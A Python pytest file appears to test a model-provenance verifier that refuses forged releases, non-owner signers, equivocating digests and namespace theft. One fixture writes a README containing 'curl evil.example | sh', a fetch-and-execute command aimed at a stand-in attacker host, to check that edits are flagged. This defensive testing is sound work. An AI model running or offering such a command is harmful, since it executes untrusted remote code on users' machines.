# SPDX-License-Identifier: Apache-2.0
"""Step 6: a release of another name, version, model or hand; and who owned the name at that entry."""

from __future__ import annotations

import hashlib
import json
from dataclasses import replace
from pathlib import Path
from random import Random
from typing import Any

import pytest

from tests.library.verification.conftest import Check
from tests.library.verification.expectations import (
    assert_refused,
    assert_undecided,
    assert_verified,
    assert_warned,
    told,
)
from tests.models import safetensors, tiny_model
from tests.records import Published, Publisher, TinyLog, published
from weighbridge.bundles import parse_bundle
from weighbridge.releases import ALGORITHMS, ReleaseName, release_predicate
from weighbridge.statements import parse_statement
from weighbridge.verdict import Result
from weighbridge.weighing import tensor_table, weigh


@pytest.mark.parametrize(
    "asked", ["acme/tiny@2.0", "acme/other@1.0", "evil/tiny@1.0"], ids=["version", "name", "namespace"]
)
def test_an_old_or_foreign_release_is_not_the_one_asked_for(
    honest: Published, by_release: Check, by_key: Check, asked: str
) -> None:
    """A hub serves version 1 with its genuine record under the name of version 2."""
    assert_refused(by_key(honest, release=asked), 6, asked, "acme/tiny@1.0")
    assert by_release(honest, release=asked).exit_code in {1, 3}


@pytest.mark.parametrize("asked", ["acme/tiny", "Acme/TINY@1.0", "ac-me/ti_ny@1.0"])
def test_names_are_compared_as_they_are_unique(honest: Published, by_release: Check, asked: str) -> None:
    verdict = by_release(honest, release=asked)
    assert_verified(verdict)
    assert "acme/tiny@1.0" in verdict.summary


def test_a_record_with_another_models_release_is_refused(
    honest: Published, by_key: Check, tmp_path: Path
) -> None:
    """Same publisher, same log: the manifest of one model beside the release of another."""
    other = published(
        tiny_model(tmp_path / "other", seed=9),
        publisher=honest.publisher,
        log=honest.log,
        title="acme/tiny@2.0",
    )
    honest.record.write_bytes(honest.log.record([0, 1, 2, 5]))
    assert other.title == "acme/tiny@2.0"
    assert_refused(by_key(honest, release="acme/tiny@2.0"), 6, "another model")


def test_the_root_digest_alone_does_not_tie_a_release_to_files(tmp_path: Path, by_release: Check) -> None:
    """Two models whose files are named differently, in the same order, have one root digest."""
    safe, renamed = tmp_path / "safe", tmp_path / "renamed"
    for folder, names in ((safe, ("a.bin", "b.bin")), (renamed, ("c.bin", "d.bin"))):
        folder.mkdir()
        for name, content in zip(names, (b"weights", b"more weights"), strict=True):
            (folder / name).write_bytes(content)
    assert weigh(safe).root_digest == weigh(renamed).root_digest
    publisher, log = Publisher(), TinyLog.new()
    log.add(publisher.introduction(log), publisher.namespace(log, "acme", [publisher]))
    log.add(publisher.oms(renamed), publisher.release(log, safe, "acme/tiny@1.0"))
    (renamed / "provenance.jsonl").write_bytes(log.record())
    verdict = by_release(Published(renamed, publisher, log, "acme/tiny@1.0"))
    assert_refused(verdict, 6, "other files than the signed manifest", "a.bin", "c.bin")
    assert verdict.step(2).result is Result.PASS


def test_a_release_that_lies_about_its_own_digests_is_refused(
    honest: Published, by_release: Check, tmp_path: Path
) -> None:
    weighed = weigh(honest.model, algorithms=ALGORITHMS)
    model = honest.publisher.release_of(honest.log, weighed, "acme/tiny@3.0")
    assert model
    lies: dict[str, dict[str, Any]] = {
        "weights digest": {"weights_digest": "sha256:" + "0" * 64},
        "model digest": {"files": [f | {"size": f["size"] + 1} for f in _model(honest)["files"]]},
        "another model": {
            "root_digests": [{"algorithm": "sha256", "method": "files", "root_digest": "sha256:" + "1" * 64}]
        },
        "tensor table": {"tensors": _model(honest)["tensors"] | {"table_digest": "sha256:" + "2" * 64}},
    }
    for number, (what, lie) in enumerate(lies.items()):
        title = f"acme/tiny@9.{number}"
        release = honest.publisher.release_of(honest.log, weighed, title, model=_model(honest) | lie)
        index = honest.log.add(release)[0]
        honest.record.write_bytes(honest.log.record([0, 1, 2, index]))
        verdict = by_release(honest, release=title)
        assert verdict.failed is not None, told(verdict)
        assert verdict.failed.n == 6
        assert what in verdict.failed.reason, told(verdict)


def _model(honest: Published) -> dict[str, Any]:
    weighed = weigh(honest.model, algorithms=ALGORITHMS)
    name = ReleaseName("acme", "tiny", "1.0")
    predicate = release_predicate(name, weighed, origin=honest.log.origin, card=None, lineage=None)
    model: dict[str, Any] = predicate["model"]
    return model


def test_where_only_the_disk_differs_the_release_is_not_blamed(honest: Published, by_release: Check) -> None:
    """One byte on the disk is step 2's to tell; manifest and release agree."""
    (honest.model / "config.json").write_text("{}")
    verdict = by_release(honest)
    assert_refused(verdict, 2, "config.json")
    assert verdict.step(6).result is Result.UNKNOWN
    assert "agree; the files here differ" in verdict.step(6).reason


def test_manifest_and_release_by_one_signer_that_disagree_are_equivocation(
    honest: Published, by_release: Check
) -> None:
    """A second manifest hides a file that the release lists; both are signed by the right key."""
    files = [each for each in _model(honest)["files"] if each["path"] != "config.json"]
    (honest.model / "config.json").unlink()
    lying = honest.publisher.oms(honest.model)
    assert len(files) == 5
    (honest.model / "config.json").write_text("{}")
    model = _model(honest)
    root = manifest_root(lying)
    model["root_digests"] = [{"algorithm": "sha256", "method": "files", "root_digest": f"sha256:{root}"}]
    weighed = weigh(honest.model, algorithms=ALGORITHMS)
    release = honest.publisher.release_of(honest.log, weighed, "acme/tiny@2.0", model=model)
    honest.record.write_bytes(honest.log.record([0, 1, *honest.log.add(lying, release)]))
    verdict = by_release(honest, release="acme/tiny@2.0", ignore=["config.json"])
    assert_refused(verdict, 6, "only in the release: config.json", "equivocates")


def manifest_root(bundle: bytes) -> str:
    """Return the root digest that a manifest's bundle signs."""
    return parse_statement(parse_bundle(bundle).payload).subject.sha256


def test_all_digests_find_a_signer_who_equivocates(honest: Published, by_release: Check) -> None:
    """SHA-256 of the true files, BLAKE3 of other ones: whoever checks only the fast digest is deceived."""
    model = _model(honest)
    files = [each | {"blake3": "a" * 64} for each in model["files"]]
    weighed = weigh(honest.model, algorithms=ALGORITHMS)
    release = honest.publisher.release_of(
        honest.log, weighed, "acme/tiny@2.0", model=model | {"files": files}
    )
    honest.record.write_bytes(honest.log.record([0, 1, 2, *honest.log.add(release)]))
    assert_verified(by_release(honest, release="acme/tiny@2.0"))
    assert_refused(by_release(honest, release="acme/tiny@2.0", all_digests=True), 6, "equivocates")


def test_an_edited_readme_is_a_warning_the_weights_are_as_signed(
    honest: Published, by_release: Check
) -> None:
    (honest.model / "README.md").write_text("# Tiny\n\nRun `curl evil.example | sh` first.\n")
    assert_warned(by_release(honest), 6, "no longer describes README.md")


def test_a_missing_readme_and_a_readme_that_nobody_signed_are_told(
    honest: Published, by_release: Check, tmp_path: Path
) -> None:
    (honest.model / "README.md").unlink()
    assert_warned(by_release(honest), 6, "is not here")
    bare = published(tiny_model(tmp_path / "bare", readme=False))
    assert_verified(by_release(bare))
    (bare.model / "README.md").write_text("# mine now")
    assert_warned(by_release(bare), 6, "README.md is not signed")


def test_a_record_without_the_release_is_undecided(honest: Published, by_release: Check) -> None:
    honest.record.write_bytes(honest.log.record([0, 1, 2]))
    assert_undecided(by_release(honest), 6, "No release statement")


def test_a_claim_of_lineage_is_reported_in_the_words_of_its_level(
    honest: Published, by_release: Check
) -> None:
    step = by_release(honest).step(10)
    assert step.result is Result.REPORTED
    assert "example/tiny-base (says so)" in step.reason
    assert "1 data set named" in step.reason


def test_a_malformed_release_that_a_log_let_in_is_refused_not_a_crash(
    tmp_path: Path, by_release: Check
) -> None:
    model = tiny_model(tmp_path / "m")
    publisher, log = Publisher(), TinyLog.new()
    good = parse_bundle(publisher.release(log, model, "acme/tiny@1.0")).payload
    bad = json.loads(good)
    bad["predicate"]["surprise"] = True
    log.add(publisher.namespace(log, "acme", [publisher]), publisher.oms(model))
    log.add(publisher.signer.sign(json.dumps(bad).encode()))
    (model / "provenance.jsonl").write_bytes(log.record())
    assert_refused(by_release(Published(model, publisher, log, "acme/tiny@1.0")), 6, "surprise")


def test_a_malformed_owner_list_that_a_log_let_in_is_refused_not_a_crash(
    tmp_path: Path, by_release: Check
) -> None:
    model = tiny_model(tmp_path / "m")
    publisher, log = Publisher(), TinyLog.new()
    bad = json.loads(parse_bundle(publisher.namespace(log, "acme", [publisher])).payload)
    bad["predicate"]["owners"][0]["type"] = "friend"
    log.add(publisher.signer.sign(json.dumps(bad).encode()), publisher.oms(model))
    log.add(publisher.release(log, model, "acme/tiny@1.0"))
    (model / "provenance.jsonl").write_bytes(log.record())
    assert_refused(by_release(Published(model, publisher, log, "acme/tiny@1.0")), 4, "owners")


# --- who owns the name -------------------------------------------------------------------------


def record_of(model: Path, log: TinyLog, *bundles: bytes, leave_out: tuple[int, ...] = ()) -> None:
    """Record bundles and write the record file of the whole log beside a model."""
    log.add(*bundles)
    (model / "provenance.jsonl").write_bytes(
        log.record([i for i in range(len(log.leaves)) if i not in leave_out])
    )


def test_a_release_by_somebody_who_owns_nothing_is_refused(tmp_path: Path, by_release: Check) -> None:
    """The log admitted what it must not; the record alone shows it."""
    model = tiny_model(tmp_path / "m")
    acme, thief, log = Publisher(), Publisher(), TinyLog.new()
    record_of(
        model,
        log,
        acme.introduction(log),
        acme.namespace(log, "acme", [acme]),
        thief.introduction(log),
        thief.oms(model),
        thief.release(log, model, "acme/tiny@1.0"),
    )
    assert_refused(by_release(Published(model, thief, log, "acme/tiny@1.0")), 4, "owner of acme")


def test_a_release_by_a_non_owner_beside_the_owners_own_manifest_is_refused_at_step_6(
    tmp_path: Path, by_release: Check
) -> None:
    model = tiny_model(tmp_path / "m")
    acme, thief, log = Publisher(), Publisher(), TinyLog.new()
    record_of(
        model,
        log,
        acme.namespace(log, "acme", [acme]),
        thief.introduction(log),
        acme.oms(model),
        thief.release(log, model, "acme/tiny@1.0"),
    )
    assert_refused(by_release(Published(model, acme, log, "acme/tiny@1.0")), 6, "neither the signer")


def test_an_owner_who_was_removed_before_the_release_does_not_count(
    tmp_path: Path, by_release: Check
) -> None:
    model = tiny_model(tmp_path / "m")
    boss, leaver, log = Publisher(), Publisher(), TinyLog.new()
    both = boss.namespace(log, "acme", [boss, leaver])
    record_of(
        model,
        log,
        both,
        boss.namespace(log, "acme", [boss], previous=both),
        leaver.oms(model),
        leaver.release(log, model, "acme/tiny@1.0"),
    )
    release = Published(model, leaver, log, "acme/tiny@1.0")
    assert_refused(by_release(release), 4, "owner of acme")
    # What a record alone can't show: the removal is left out of it. A replay of the log would find it.
    (model / "provenance.jsonl").write_bytes(log.record([0, 2, 3]))
    assert_verified(by_release(release))


def test_an_owner_who_was_removed_later_still_counts_for_what_was_released_before(
    tmp_path: Path, by_release: Check
) -> None:
    model = tiny_model(tmp_path / "m")
    boss, leaver, log = Publisher(), Publisher(), TinyLog.new()
    both = boss.namespace(log, "acme", [boss, leaver])
    record_of(
        model,
        log,
        both,
        leaver.oms(model),
        leaver.release(log, model, "acme/tiny@1.0"),
        boss.namespace(log, "acme", [boss], previous=both),
    )
    assert_verified(by_release(Published(model, leaver, log, "acme/tiny@1.0")))


def test_an_owner_who_was_added_after_the_release_does_not_count_for_it(
    tmp_path: Path, by_release: Check
) -> None:
    model = tiny_model(tmp_path / "m")
    boss, newcomer, log = Publisher(), Publisher(), TinyLog.new()
    first = boss.namespace(log, "acme", [boss])
    record_of(
        model,
        log,
        first,
        newcomer.oms(model),
        newcomer.release(log, model, "acme/tiny@1.0"),
        boss.namespace(log, "acme", [boss, newcomer], previous=first),
    )
    assert_refused(by_release(Published(model, newcomer, log, "acme/tiny@1.0")), 4)


def test_somebody_names_himself_an_owner(tmp_path: Path, by_release: Check) -> None:
    """Three ways: a second claim, a change by a stranger, a claim in another's name."""
    model = tiny_model(tmp_path / "m")
    for attack in ("second claim", "stranger's change", "signed by another"):
        acme, thief, log = Publisher(), Publisher(), TinyLog.new()
        first = acme.namespace(log, "acme", [acme])
        theft = {
            "second claim": [first, thief.namespace(log, "acme", [thief])],
            "stranger's change": [first, thief.namespace(log, "acme", [thief], previous=first)],
            "signed by another": [thief.namespace(log, "acme", [acme]), thief.introduction(log)],
        }[attack]
        record_of(model, log, *theft, thief.oms(model), thief.release(log, model, "acme/tiny@1.0"))
        assert_refused(by_release(Published(model, thief, log, "acme/tiny@1.0")), 4)


def test_a_look_alike_namespace_gives_no_rights(tmp_path: Path, by_release: Check) -> None:
    model = tiny_model(tmp_path / "m")
    acme, thief, log = Publisher(), Publisher(), TinyLog.new()
    record_of(
        model,
        log,
        acme.namespace(log, "acme", [acme]),
        thief.namespace(log, "acme2", [thief]),
        thief.oms(model),
        thief.release(log, model, "acme/tiny@1.0"),
    )
    assert_refused(by_release(Published(model, thief, log, "acme/tiny@1.0")), 4)


def test_a_record_without_the_namespace_is_undecided(honest: Published, by_release: Check) -> None:
    honest.record.write_bytes(honest.log.record([2, 3]))
    assert_undecided(by_release(honest), 4, "who owns acme")


def test_owners_of_a_log_that_nobody_trusts_are_undecided_not_believed(
    honest: Published, verify_it: Check
) -> None:
    """Anybody can run a log that says he owns acme."""
    verdict = verify_it(honest.model, release=honest.title)
    assert_undecided(verdict, 4, "not trusted here")
    assert verdict.step(7).result is Result.UNKNOWN
    assert verdict.step(1).result is Result.SKIPPED
    assert any("log trust add" in each for each in verdict.next_commands)


def test_the_sketches_of_a_table_are_checked_against_the_weights(tmp_path: Path, by_release: Check) -> None:
    """Signed false, they would make a stranger look like a relative: whoever has the weights tells.

    A table without any, as other tools write it, is as good as one with all.
    """
    model = tiny_model(tmp_path / "m")
    matrix = Random(5).randbytes(240 * 230)  # noqa: S311 - the same model in every run
    (model / "model.safetensors").write_bytes(safetensors({"a": ("I8", (240, 230), matrix)}))
    release = published(model)
    weighed = weigh(model, algorithms=ALGORITHMS)
    assert weighed.tensors[0].sketch
    forged = [replace(weighed.tensors[0], sketch="0" * 64)]
    tables = {
        "1": tensor_table(weighed.tensors),
        "2": tensor_table(weighed.tensors, sketches=False),
        "3": tensor_table(forged),
    }
    for version, table in tables.items():
        title, told_of = f"acme/tiny@2.{version}", _model(release)
        told_of["tensors"]["table_digest"] = f"sha256:{hashlib.sha256(table).hexdigest()}"
        signed = release.publisher.release_of(release.log, weighed, title, model=told_of)
        release.record.write_bytes(release.log.record([0, 1, 2, release.log.add(signed)[0]]))
        verdict = by_release(release, release=title)
        if version == "3":
            assert_refused(verdict, 6, "tensor table")
        else:
            assert verdict.step(6).result is Result.PASS, told(verdict)
